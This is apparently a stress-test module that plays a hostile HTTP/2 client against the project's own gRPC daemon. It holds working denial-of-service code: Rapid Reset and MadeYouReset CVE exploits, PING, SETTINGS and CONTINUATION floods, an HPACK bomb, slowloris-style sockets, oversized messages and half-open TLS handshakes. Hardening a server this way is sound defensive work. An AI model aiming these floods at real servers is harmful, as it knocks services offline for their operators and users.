"""What a hostile client does. Each attack lasts for as long as it is told to and returns what it counted."""

import asyncio
import os
import random
import ssl
import struct
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field

from tests.e2e.abuse.line import (
    CHECK,
    CONTINUATION,
    DATA,
    DISCOVER,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    HEARTBEAT,
    INITIAL_WINDOW,
    PING,
    PREFACE,
    PRIORITY,
    REGISTER,
    RST_STREAM,
    SETTINGS,
    WATCH,
    WINDOW_UPDATE,
    Line,
    block,
    frame,
    literal,
    message,
    setting,
)

LINES = 4
"""Connections of one attacker where more would not be worse."""
BATCH = 100
"""Requests in one write: what does not fill the socket's buffer goes faster."""
CONNECTIONS_A_SECOND = 20
MAX_WINDOW = 2**31 - 1


@dataclass
class Target:
    """What is attacked, and what was counted.

    Attributes:
        address: of the daemon.
        seconds: how long to attack.
        tls: how to speak TLS; None = plaintext.
        seen: counts, by what the daemon sent and what was done.
        faults: what must not be.
    """

    address: str
    seconds: float
    tls: ssl.SSLContext | None = None
    seen: Counter[str] = field(default_factory=Counter)
    faults: list[str] = field(default_factory=list)

    async def line(self, settings: bytes = b"") -> Line:
        """A new connection."""
        return await Line.open(self.address, self.seen, settings, tls=self.tls)


Attack = Callable[[Target], Awaitable[None]]
Wave = Callable[[Line], bytes]


async def flood(target: Target, wave: Wave, what: str, each: int, *, pause_s: float = 0.01) -> None:
    """Sends waves on a few connections for as long as it lasts; connects anew, after a pause, when it is cut off."""
    until = time.monotonic() + target.seconds

    async def one() -> None:
        line: Line | None = None
        while time.monotonic() < until:
            if line is None or line.over:
                line = await renewed(target, line, pause_s)
                continue
            with suppress(TimeoutError):
                async with asyncio.timeout(max(0.0, until - time.monotonic())):  # a daemon that reads no more ends it
                    if await line.send(wave(line)):
                        target.seen[what] += each
            await asyncio.sleep(0)
        if line is not None:
            await line.close()

    await asyncio.gather(*(one() for _ in range(LINES)))


async def renewed(target: Target, line: Line | None, pause_s: float) -> Line | None:
    """A connection in the place of one that was closed; None = not let in now."""
    if line is not None:
        target.seen["cut off"] += 1
        await line.close()
        await asyncio.sleep(pause_s)
    with suppress(OSError, TimeoutError):
        return await target.line()
    await asyncio.sleep(0.05)
    return None


# 29, 30: sockets.


async def many_connections(target: Target) -> None:
    """More connections than the daemon may have files open; all of them speak HTTP/2 and answer its PINGs."""
    lines: list[Line] = []
    for _ in range(700):
        with suppress(OSError, TimeoutError):
            lines.append(await target.line())
    target.seen["opened"] += len(lines)
    await asyncio.sleep(target.seconds)
    target.seen["held"] = sum(not line.over for line in lines)
    await asyncio.gather(*(line.close() for line in lines))


async def silent_sockets(target: Target) -> None:
    """300 that say nothing, and 300 that send the preface a byte every half second."""
    host, _, port = target.address.rpartition(":")
    began = time.monotonic()

    async def one(drips: bool) -> float:
        reader, writer = await asyncio.open_connection(host, int(port))
        with suppress(OSError):
            for byte in PREFACE if drips else b"":
                writer.write(bytes((byte,)))
                with suppress(TimeoutError):
                    if not await asyncio.wait_for(reader.read(1_000), 0.5):
                        break
            async with asyncio.timeout(30.0):
                while await reader.read(1_000):
                    pass
        writer.transport.abort()
        return time.monotonic() - began

    took = await asyncio.gather(*(one(number % 2 == 1) for number in range(600)))
    target.seen["closed"] = len(took)
    target.seen["last closed after ms"] = round(max(took) * 1_000)
    if max(took) > 8.0:
        target.faults.append(f"a silent socket was closed after {max(took):.1f} s only, handshake_timeout is 3 s")


# 31: floods of frames.


def request(line: Line, path: str, data: bytes = b"", *, end: bool = True) -> tuple[int, bytes]:
    """A new stream and the bytes of its request."""
    stream = line.stream()
    head = frame(HEADERS, END_HEADERS, stream, block(path))
    return stream, head + frame(DATA, END_STREAM if end else 0, stream, message(data))


async def rapid_reset(target: Target) -> None:
    """CVE-2023-44487: requests that are reset at once."""

    def wave(line: Line) -> bytes:
        parts = []
        for number in range(BATCH):
            stream, data = request(line, DISCOVER if number % 2 else CHECK)
            parts.append(data + frame(RST_STREAM, 0, stream, struct.pack(">L", 8)))
        return b"".join(parts)

    await flood(target, wave, "requests", BATCH)


MADE_YOU_RESET: dict[str, Callable[[int], bytes]] = {
    "window of 0": lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">L", 0)),
    "window overflow": lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">L", MAX_WINDOW)) * 2,
    "data after the end": lambda stream: frame(DATA, END_STREAM, stream, message()),
    "headers after the end": lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block(CHECK)),
    "priority of 4 bytes": lambda stream: frame(PRIORITY, 0, stream, b"\0" * 4),
    "depends on itself": lambda stream: frame(PRIORITY, 0, stream, struct.pack(">LB", stream, 1)),
}
"""CVE-2025-8671: ways to have the server reset a stream whose request it works on."""


async def made_you_reset(target: Target) -> None:
    """Each way for its share of the time; counts how the daemon answers it."""
    share = target.seconds / len(MADE_YOU_RESET)
    for name, provoke in MADE_YOU_RESET.items():
        part = Target(target.address, share, target.tls)

        def wave(line: Line, provoke: Callable[[int], bytes] = provoke) -> bytes:
            parts = []
            for _ in range(BATCH // 5):
                stream, data = request(line, DISCOVER)
                parts.append(data + provoke(stream))
            return b"".join(parts)

        await flood(part, wave, "requests", BATCH // 5)
        for what in ("requests", "RST_STREAM", "GOAWAY", "cut off"):
            target.seen[f"{name}: {what}"] = part.seen[what]
        target.faults += part.faults


async def pings(target: Target) -> None:
    """PINGs as fast as they can be sent."""
    await flood(target, lambda _: frame(PING, 0, 0, b"12345678") * 1_000, "PINGs", 1_000)


async def settings_flood(target: Target) -> None:
    """SETTINGS as fast as they can be sent: each has to be acknowledged."""
    data = frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 65_535) * 10) * 200
    await flood(target, lambda _: data, "SETTINGS", 200)


async def continuations(target: Target) -> None:
    """Headers that never end, on the 20 new connections a second that docs/security.md has a firewall allow: each is
    cut off for them, and costs what it has sent by then until gRPC gets round to throwing that away.
    """
    piece = literal(b"k", b"v" * 100)

    def wave(line: Line) -> bytes:
        stream = line.stream()
        head = frame(HEADERS, 0, stream, block(CHECK))
        return head + frame(CONTINUATION, 0, stream, piece * 150) * 60

    await flood(target, wave, "CONTINUATIONs", 60, pause_s=LINES / CONNECTIONS_A_SECOND)


async def empty_data(target: Target) -> None:
    """DATA frames without data, on a stream that stays open."""
    began: dict[Line, int] = {}

    def wave(line: Line) -> bytes:
        if line in began:
            return frame(DATA, 0, began[line]) * 2_000
        began[line] = line.stream()
        return frame(HEADERS, END_HEADERS, began[line], block(HEARTBEAT))

    await flood(target, wave, "empty DATA", 2_000)


async def hpack_bomb(target: Target) -> None:
    """One long header in the table, named a thousand times in each request: 16 kB on the wire, 4 MB decoded."""
    entry = literal(b"k", b"v" * 3_900, 0x40)

    def wave(line: Line) -> bytes:
        stream = line.stream()
        first = entry if stream == 1 else b""
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block(CHECK) + first + b"\xbe" * 1_000)

    await flood(target, wave, "requests", 1)


async def no_window(target: Target) -> None:
    """Readers that open no window: 900 streams on each of a few connections, whose answers can never be sent."""
    lines = [await target.line(setting(INITIAL_WINDOW, 0)) for _ in range(LINES)]
    for line in lines:
        for number in range(900):
            await line.send(request(line, WATCH if number % 3 else DISCOVER)[1])
            target.seen["streams"] += 1
    await asyncio.sleep(target.seconds)
    target.seen["connections held"] = sum(not line.over for line in lines)
    await asyncio.gather(*(line.close() for line in lines))


# 32: sizes.


async def large_messages(target: Target) -> None:
    """Messages of 5 MB, and such that only claim 4 GB and drip."""
    until = time.monotonic() + target.seconds
    body = message(b"\x0a\x80\x80\x80\x02" + b"x" * 5_000_000)

    async def send(data: bytes, what: str) -> None:
        """As much as fits the stream's window; once that is answered, the rest all the same."""
        line = await target.line()
        stream, answered = line.stream(), target.seen["grpc-status 8"]
        await line.send(frame(HEADERS, END_HEADERS, stream, block(REGISTER)))
        for first in range(0, 60_000, 10_000):
            await line.send(frame(DATA, 0, stream, data[first : first + 10_000]))
        for _ in range(100):
            if target.seen["grpc-status 8"] > answered or line.over:
                break
            await asyncio.sleep(0.02)
        for first in range(60_000, len(data), 16_384):
            if not await line.send(frame(DATA, 0, stream, data[first : first + 16_384])):
                break
            await asyncio.sleep(0)
        target.seen[what] += 1
        await line.close()

    claim = struct.pack(">BL", 0, 2**32 - 1) + b"x" * 5_000_000
    while time.monotonic() < until:
        await send(body, "5 MB")
        await send(claim, "4 GB claimed")
    sent = target.seen["5 MB"] + target.seen["4 GB claimed"]
    if target.seen["grpc-status 8"] < sent * 0.9:
        target.faults.append(f"{target.seen['grpc-status 8']} of {sent} were told RESOURCE_EXHAUSTED")


async def large_metadata(target: Target) -> None:
    """70 kB of headers: in one block that ends, as an honest but careless client would send them."""
    fields = tuple((f"k{number}", "v" * 6_900) for number in range(10))
    data = block(CHECK, fields)
    pieces = [data[first : first + 16_000] for first in range(0, len(data), 16_000)]

    def wave(line: Line) -> bytes:
        stream = line.stream()
        last = len(pieces) - 1
        parts = [frame(HEADERS, END_STREAM, stream, pieces[0])]
        for number, piece in enumerate(pieces[1:], 1):
            parts.append(frame(CONTINUATION, END_HEADERS if number == last else 0, stream, piece))
        return b"".join(parts)

    await flood(target, wave, "requests", 1)


# 33: bytes.


async def garbage(target: Target) -> None:
    """Messages of random bytes, to RPCs that read and write. `python -m tests.fuzz` has more and better ones."""
    rng = random.Random(33)
    paths = (DISCOVER, REGISTER, HEARTBEAT, WATCH, CHECK, "/orion.registry.v1.BalancerService/Route")

    def wave(line: Line) -> bytes:
        parts = []
        for _ in range(20):
            data = b"\xff" + rng.randbytes(rng.randrange(1, 200))  # 0xff begins no field: none of them is a message
            parts.append(request(line, rng.choice(paths), data)[1])
        return b"".join(parts)

    await flood(target, wave, "messages", 20)
    for status in (2, 13):
        if target.seen[f"grpc-status {status}"]:
            target.faults.append(f"{target.seen[f'grpc-status {status}']} answers with grpc-status {status}")
    if not target.seen["grpc-status 3"]:
        target.faults.append("no message was told INVALID_ARGUMENT")


async def half_open_tls(target: Target) -> None:
    """TCP connections that begin a TLS handshake and leave it at that, again and again."""
    host, _, port = target.address.rpartition(":")
    until = time.monotonic() + target.seconds

    async def one() -> None:
        while time.monotonic() < until:
            with suppress(OSError):
                _, writer = await asyncio.open_connection(host, int(port))
                writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32))
                target.seen["handshakes begun"] += 1
                await asyncio.sleep(0.05)
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(20)))
